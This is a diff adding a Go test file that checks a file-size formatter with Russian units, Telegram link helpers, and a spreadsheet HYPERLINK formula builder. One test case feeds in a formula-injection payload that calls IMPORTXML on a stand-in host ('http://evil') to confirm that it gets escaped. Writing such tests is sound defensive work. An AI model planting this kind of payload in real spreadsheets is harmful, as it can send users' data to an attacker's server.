@@ -0,0 +1,61 @@
+package internal
+
+import "testing"
+
+func TestHumanSize(t *testing.T) {
+	tests := []struct {
+		size int64
+		want string
+	}{
+		{0, "0 Б"},
+		{512, "512 Б"},
+		{1023, "1023 Б"},
+		{1024, "1,0 КБ"},
+		{1536, "1,5 КБ"},
+		{1024*1024 - 1, "1,0 МБ"},
+		{1023*1024 + 900, "1023,9 КБ"},
+		{1024 * 1024, "1,0 МБ"},
+		{12*1024*1024 + 300*1024, "12,3 МБ"},
+		{5 * 1024 * 1024 * 1024, "5,0 ГБ"},
+		{2048 * 1024 * 1024 * 1024 * 1024, "2048,0 ТБ"},
+	}
+
+	for _, tt := range tests {
+		if got := humanSize(tt.size); got != tt.want {
+			t.Errorf("humanSize(%d) = %q, want %q", tt.size, got, tt.want)
+		}
+	}
+}
+
+func TestHyperlinkFormula(t *testing.T) {
+	tests := []struct {
+		name string
+		url  string
+		text string
+		want string
+	}{
+		{"plain", "https://t.me/ivanov", "ivanov", `=HYPERLINK("https://t.me/ivanov", "ivanov")`},
+		{"quotes are doubled", "https://t.me/bot?start=show_1", `отчет "Q3".pdf`, `=HYPERLINK("https://t.me/bot?start=show_1", "отчет ""Q3"".pdf")`},
+		{"formula in text stays a string", "https://t.me/x", `"), IMPORTXML("http://evil", "//a`, `=HYPERLINK("https://t.me/x", """), IMPORTXML(""http://evil"", ""//a")`},
+		{"empty text", "https://t.me/x", "", `=HYPERLINK("https://t.me/x", "")`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := hyperlinkFormula(tt.url, tt.text); got != tt.want {
+				t.Errorf("hyperlinkFormula = %s, want %s", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLinks(t *testing.T) {
+	if got, want := fileDeepLink("files_bot", 42), "https://t.me/files_bot?start=show_42"; got != want {
+		t.Errorf("fileDeepLink = %q, want %q", got, want)
+	}
+	for _, username := range []string{"ivanov", "@ivanov"} {
+		if got, want := profileLink(username), "https://t.me/ivanov"; got != want {
+			t.Errorf("profileLink(%q) = %q, want %q", username, got, want)
+		}
+	}
+}